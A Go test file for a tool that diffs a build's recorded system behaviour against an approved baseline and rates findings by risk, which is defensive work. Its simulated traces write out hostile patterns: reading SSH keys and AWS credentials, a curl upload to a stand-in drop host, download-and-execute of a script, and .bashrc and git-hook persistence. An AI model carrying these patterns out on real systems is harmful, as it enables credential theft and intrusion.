package diff_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"github.com/behavediff/behavediff/internal/golden"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/behavediff/behavediff/baseline"
	"github.com/behavediff/behavediff/baseline/baselinetest"
	"github.com/behavediff/behavediff/diff"
	"github.com/behavediff/behavediff/store"
)

func goldenFile(t *testing.T, name string, got []byte) {
	t.Helper()
	golden.Check(t, filepath.Join("..", "testdata", "diff", name), got)
}

func from(t testing.TB, tr *store.Trace) *baseline.Baseline {
	t.Helper()
	b, err := baseline.FromTrace(tr, baseline.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// approved is the benign baseline, as approved from seed 1 and read back
// from its file (so Compare sees what check sees).
func approved(t testing.TB) *baseline.Baseline {
	t.Helper()
	data, err := from(t, baselinetest.Benign(1).T).Marshal()
	if err != nil {
		t.Fatal(err)
	}
	b, err := baseline.Parse(data, "build.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestUnchangedProgramDiffsClean(t *testing.T) {
	base := approved(t)
	for seed := uint64(2); seed < 50; seed++ {
		cur := from(t, baselinetest.Benign(seed).T)
		if fs := diff.Compare(base, cur, diff.Context{RunID: int64(seed)}); len(fs) != 0 {
			t.Fatalf("seed %d: %d findings for an unchanged program, first: %+v", seed, len(fs), fs[0])
		}
		// Also run against run (diff RUN_A RUN_B).
		prev := from(t, baselinetest.Benign(seed-1).T)
		if fs := diff.Compare(prev, cur, diff.Context{}); len(fs) != 0 {
			t.Fatalf("seed %d vs %d: %+v", seed-1, seed, fs[0])
		}
	}
}

type want struct {
	level   diff.Level
	kind    string
	subject string
}

func check(t *testing.T, fs []diff.Finding, w want) {
	t.Helper()
	for _, f := range fs {
		if f.Kind == w.kind && f.Subject == w.subject {
			if f.Level != w.level {
				t.Errorf("%s %s: level %s, want %s (%s)", w.kind, w.subject, f.Level, w.level, f.Reason)
			}
			return
		}
	}
	t.Errorf("no %s finding for %s; got:\n%s", w.kind, w.subject, dump(fs))
}

func dump(fs []diff.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "  %s %s %s %s: %s\n", f.Level, f.Kind, f.Change, f.Subject, f.Reason)
	}
	return b.String()
}

func TestRisks(t *testing.T) {
	const py, sh = 1, 0
	cases := []struct {
		name  string
		vary  func(b *baselinetest.Builder)
		wants []want
		worst diff.Level
	}{
		{"secret read and egress", func(b *baselinetest.Builder) {
			b.Open(py, "/root/.ssh/id_rsa", baselinetest.ORdonly, baselinetest.EACCES)
			b.DNS(py, "evil.example.net", 1)
			b.Answer(py, "evil.example.net", "198.51.100.7")
			b.Connect(py, "198.51.100.7", 443, baselinetest.ENETUNREACH)
		}, []want{
			{diff.Critical, "secret-read", "$HOME/.ssh/id_rsa"},
			{diff.Critical, "egress", "evil.example.net:443"},
			{diff.Critical, "dns", "evil.example.net"},
		}, diff.Critical},
		{"literal address after an approved lookup", func(b *baselinetest.Builder) {
			// pypi.org is looked up in the benign run too; this address is
			// not one of its answers, so it must not pass as pypi.org.
			b.DNS(py, "pypi.org", 1)
			b.Connect(py, "198.51.100.66", 443, baselinetest.ENETUNREACH)
		}, []want{{diff.High, "egress", "198.51.100.66:443"}}, diff.High},
		{"egress without secret", func(b *baselinetest.Builder) {
			b.Connect(sh, "198.51.100.7", 8443, 0)
		}, []want{{diff.High, "egress", "198.51.100.7:8443"}}, diff.High},
		{"delete outside workspace", func(b *baselinetest.Builder) {
			b.File(sh, store.FileUnlink, "/var/lib/app/state.db", 0, baselinetest.EROFS)
		}, []want{{diff.High, "write-outside", "/var/lib/app/state.db"}}, diff.High},
		{"download and execute", func(b *baselinetest.Builder) {
			c := b.Exec(py, "/usr/bin/curl", "curl", "-fsSLo", "/tmp/x.sh", "https://get.example.com/x.sh")
			b.DNS(c, "get.example.com", 1)
			b.Answer(c, "get.example.com", "203.0.113.9")
			b.Connect(c, "203.0.113.9", 443, 0)
			b.Open(c, "/tmp/x.sh", baselinetest.OWronly|baselinetest.OCreat|baselinetest.OTrunc, 3)
			b.Chmod(sh, "/tmp/x.sh", 0o755)
			b.Exec(sh, "/tmp/x.sh", "/tmp/x.sh")
		}, []want{
			{diff.Critical, "download-exec", "/tmp/x.sh"},
			{diff.High, "exec", "/usr/bin/curl"},
			{diff.High, "egress", "get.example.com:443"},
			{diff.None, "write", "/tmp/x.sh"},
		}, diff.Critical},
		{"unshare and setns", func(b *baselinetest.Builder) {
			b.Priv(py, "unshare", "flags=CLONE_NEWUSER|CLONE_NEWNS", baselinetest.EPERM)
			b.Priv(py, "setns", "fd=5 nstype=CLONE_NEWNET", baselinetest.EPERM)
		}, []want{
			{diff.Critical, "priv", "unshare flags=CLONE_NEWUSER|CLONE_NEWNS"},
			{diff.Critical, "priv", "setns fd=5 nstype=CLONE_NEWNET"},
		}, diff.Critical},
		{"bashrc write", func(b *baselinetest.Builder) {
			b.Open(py, "/root/.bashrc", baselinetest.OWronly|0x400, baselinetest.EROFS)
		}, []want{{diff.Critical, "persistence", "$HOME/.bashrc"}}, diff.Critical},
		{"git hook in the workspace", func(b *baselinetest.Builder) {
			ws := b.T.Run.Workspace
			b.Open(py, ws+"/.git/hooks/pre-commit", baselinetest.OWronly|baselinetest.OCreat|baselinetest.OExcl, 3)
			b.Change(ws+"/.git/hooks/pre-commit", "created", false)
		}, []want{{diff.Critical, "persistence", "$WORKSPACE/.git/hooks/pre-commit"}}, diff.Critical},
		{"setuid", func(b *baselinetest.Builder) {
			b.Chmod(sh, b.T.Run.Workspace+"/out/tool", 0o4755)
		}, []want{{diff.Critical, "setuid", "$WORKSPACE/out/tool (mode 4755)"}}, diff.Critical},
		{"listen", func(b *baselinetest.Builder) {
			b.Net(py, store.NetBind, 2, 1, "0.0.0.0", 8080, 0)
			b.Net(py, store.NetListen, 2, 1, "0.0.0.0", 8080, 0)
		}, []want{{diff.High, "listen", "0.0.0.0:8080"}}, diff.High},
		{"new syscall", func(b *baselinetest.Builder) {
			b.Syscall(py, "inotify_init1", 1)
		}, []want{{diff.Low, "syscall", "inotify_init1"}}, diff.Low},
		{"interpreter starts a shell", func(b *baselinetest.Builder) {
			b.Exec(py, "/bin/sh", "sh", "-c", "id")
		}, []want{{diff.High, "shell", "/bin/sh [sh -c id]"}}, diff.High},
		{"read outside system paths", func(b *baselinetest.Builder) {
			b.Read(py, "/root/.config/app/settings.json")
			b.Read(py, "/etc/hosts")
		}, []want{{diff.Medium, "read-outside", "$HOME/.config/app/settings.json"}, {diff.None, "read", "/etc/hosts"}}, diff.Medium},
		{"docker socket", func(b *baselinetest.Builder) {
			b.Net(py, store.NetConnect, 1, 1, "/var/run/docker.sock", 0, baselinetest.ENOENT)
		}, []want{{diff.Critical, "runtime-socket", "/var/run/docker.sock"}}, diff.Critical},
		{"removed behaviour", func(b *baselinetest.Builder) {
			b.T.Changes = b.T.Changes[:1] // build-info.txt and stale.log changes gone
		}, []want{{diff.Low, "removed", "$WORKSPACE/out/build-info.txt"}, {diff.Low, "removed", "$WORKSPACE/stale.log"}}, diff.Low},
	}
	base := approved(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			b := baselinetest.Benign(7)
			c.vary(b)
			fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 7})
			for _, w := range c.wants {
				check(t, fs, w)
			}
			if got := diff.Worst(fs); got != c.worst {
				t.Errorf("worst level %s, want %s:\n%s", got, c.worst, dump(fs))
			}
		})
	}
}

func TestAllowAndOptional(t *testing.T) {
	base := approved(t)
	b := baselinetest.Benign(3)
	b.Connect(1, "198.51.100.7", 443, 0)              // allowed by glob
	b.File(0, store.FileUnlink, "/var/cache/x", 0, 0) // allowed by group glob
	b.Syscall(1, "getrandom", 4)                      // optional in base
	base.Allow = map[string][]string{"network.egress": {"198.51.100.*:443"}, "files": {"/var/cache/**"}}
	base.Syscalls = append(base.Syscalls, baseline.Entry{Value: "getrandom", Optional: true}, baseline.Entry{Value: "futex", Optional: true})
	if fs := diff.Compare(base, from(t, b.T), diff.Context{}); len(fs) != 0 {
		t.Errorf("allowed / optional behaviour reported:\n%s", dump(fs))
	}
	// A hand-written glob entry in the baseline covers matching behaviour.
	base.Files.Read = append(base.Files.Read, baseline.Entry{Value: "/srv/data/**"})
	b.Read(1, "/srv/data/a/b.csv")
	if fs := diff.Compare(base, from(t, b.T), diff.Context{}); len(fs) != 0 {
		t.Errorf("glob entry did not cover:\n%s", dump(fs))
	}
}

func TestLevels(t *testing.T) {
	for _, l := range []diff.Level{diff.None, diff.Low, diff.Medium, diff.High, diff.Critical} {
		got, err := diff.ParseLevel(strings.ToUpper(l.String()))
		if err != nil || got != l {
			t.Errorf("ParseLevel(%s) = %v, %v", l, got, err)
		}
	}
	if _, err := diff.ParseLevel("severe"); err == nil || !strings.Contains(err.Error(), "none, low, medium, high, critical") {
		t.Errorf("ParseLevel(severe): %v", err)
	}
	fs := []diff.Finding{{Level: diff.Low}, {Level: diff.High}}
	if diff.StatusFor(fs, diff.Critical) != diff.StatusPass || diff.StatusFor(fs, diff.High) != diff.StatusFail {
		t.Error("StatusFor")
	}
}

func sampleReport(t *testing.T) diff.Report {
	base := approved(t)
	bad := baselinetest.Benign(5)
	bad.Open(1, "/root/.aws/credentials", baselinetest.ORdonly, baselinetest.ENOENT)
	c := bad.Exec(1, "/usr/bin/curl", "curl", "-T", "-", "https://drop.example.org/u")
	bad.DNS(c, "drop.example.org", 1)
	bad.Answer(c, "drop.example.org", "192.0.2.10")
	bad.Connect(c, "192.0.2.10", 443, baselinetest.ENETUNREACH)
	bad.Write(0, bad.T.Run.Workspace+"/out/extra.txt")
	bad.T.Run.ID = 42
	fsBad := diff.Compare(base, from(t, bad.T), diff.Context{RunID: 42, BaseRunID: 7})
	low := baselinetest.Benign(6)
	low.Syscall(1, "getrandom", 3)
	fsLow := diff.AtLeast(diff.Compare(base, from(t, low.T), diff.Context{RunID: 43}), diff.Low)
	return diff.Report{Specs: []diff.SpecResult{
		{Name: "build", RunID: 42, Status: diff.StatusFor(fsBad, diff.High), Findings: fsBad},
		{Name: "lint", RunID: 43, Status: diff.StatusFor(fsLow, diff.High), Findings: fsLow},
		{Name: "clean", RunID: 44, Status: diff.StatusPass},
		{Name: "flaky", RunID: 45, Status: diff.StatusInconclusive, Error: "312 events were lost (file: 300, net: 12)"},
		{Name: "fresh", RunID: 46, Status: diff.StatusNew},
		{Name: "broken", Status: diff.StatusError, Error: ".behavediff/baselines/broken.yaml:7: files: unknown key \"wirte\""},
	}}
}

func TestGoldenTextReport(t *testing.T) {
	var buf bytes.Buffer
	if err := diff.WriteText(&buf, sampleReport(t)); err != nil {
		t.Fatal(err)
	}
	goldenFile(t, "report.txt", buf.Bytes())
}

func TestGoldenJSONReport(t *testing.T) {
	r := sampleReport(t)
	var buf bytes.Buffer
	if err := diff.WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	goldenFile(t, "report.json", buf.Bytes())
	var back diff.Report
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	for i := range r.Specs {
		if r.Specs[i].Findings == nil {
			r.Specs[i].Findings = []diff.Finding{}
		}
	}
	if d := cmp.Diff(r, back); d != "" {
		t.Errorf("JSON round trip (-want +got):\n%s", d)
	}
}

func TestGoldenAllClean(t *testing.T) {
	var buf bytes.Buffer
	err := diff.WriteText(&buf, diff.Report{Specs: []diff.SpecResult{{Name: "build", RunID: 3, Status: diff.StatusPass}}})
	if err != nil {
		t.Fatal(err)
	}
	goldenFile(t, "clean.txt", buf.Bytes())
}

const (
	docBegin = "<!-- BEGIN GENERATED: go test ./diff -update -->\n"
	docEnd   = "<!-- END GENERATED -->"
)

// docs/risk.md shows the same table the code uses.
func TestRiskDocInSync(t *testing.T) {
	file := filepath.Join("..", "docs", "risk.md")
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	doc := string(data)
	i, j := strings.Index(doc, docBegin), strings.Index(doc, docEnd)
	if i < 0 || j < i {
		t.Fatalf("%s: generated-section markers missing", file)
	}
	gen := diff.RiskTableMarkdown()
	cur := doc[i+len(docBegin) : j]
	if cur == gen {
		return
	}
	if golden.Update(t) {
		doc = doc[:i+len(docBegin)] + gen + doc[j:]
		if err := os.WriteFile(file, []byte(doc), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	t.Errorf("%s is out of date with diff/risk.go (go test ./diff -update):\n%s", file, cmp.Diff(cur, gen))
}

func TestCountsBucketChange(t *testing.T) {
	o := baseline.Options{Counts: true}
	mk := func(n uint64) *baseline.Baseline {
		b := baselinetest.New(1, "/ws", "x")
		p := b.Exec(-1, "/bin/x", "x")
		b.Syscall(p, "read", n)
		out, err := baseline.FromTrace(b.T, o)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	if fs := diff.Compare(mk(1200), mk(9000), diff.Context{}); len(fs) != 0 {
		t.Errorf("same order of magnitude: %s", dump(fs))
	}
	fs := diff.Compare(mk(1200), mk(12000), diff.Context{})
	check(t, fs, want{diff.Low, "syscall", "read 1e4"})
	if len(fs) != 2 || !strings.Contains(fs[0].Reason+fs[1].Reason, "was 1e3") {
		t.Errorf("want an added and a removed finding, the added saying what it was:\n%s", dump(fs))
	}
}

func TestQueryHints(t *testing.T) {
	base := approved(t)
	b := baselinetest.Benign(8)
	ws := b.T.Run.Workspace
	b.File2(0, store.FileRename, ws+"/a'b", "/etc/x", 0)
	b.Net(1, store.NetListen, 2, 1, "0.0.0.0", 8080, 0)
	b.Priv(1, "ptrace", "request=PTRACE_ATTACH pid=4242", baselinetest.EPERM)
	fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 8})
	wantQ := map[string]string{
		"$WORKSPACE/a'b -> /etc/x":           `behavediff query "SELECT exe, op, path, path2, flags, error FROM file_events WHERE run_id = 8 AND op = 'rename' AND path LIKE '` + ws + `/a''b' AND path2 LIKE '/etc/x'"`,
		"0.0.0.0:8080":                       `behavediff query "SELECT exe, op, address, port, domain, error FROM net_events WHERE run_id = 8 AND op IN ('bind', 'listen') AND address LIKE '0.0.0.0' AND port = 8080"`,
		"ptrace request=PTRACE_ATTACH pid=*": `behavediff query "SELECT exe, syscall, args, error FROM priv_events WHERE run_id = 8 AND syscall = 'ptrace'"`,
	}
	for _, f := range fs {
		if q, ok := wantQ[f.Subject]; ok {
			if f.Query != q {
				t.Errorf("%s:\n got %s\nwant %s", f.Subject, f.Query, q)
			}
			delete(wantQ, f.Subject)
		}
	}
	if len(wantQ) != 0 {
		t.Errorf("no findings for %v:\n%s", wantQ, dump(fs))
	}
	// Removed behaviour points at the baseline's run when it is known.
	fs = diff.Compare(from(t, b.T), base, diff.Context{RunID: 1, BaseRunID: 8})
	for _, f := range fs {
		if f.Change == diff.Removed && !strings.Contains(f.Query, "run_id = 8") {
			t.Errorf("removed finding %s: query %q", f.Subject, f.Query)
		}
	}
}
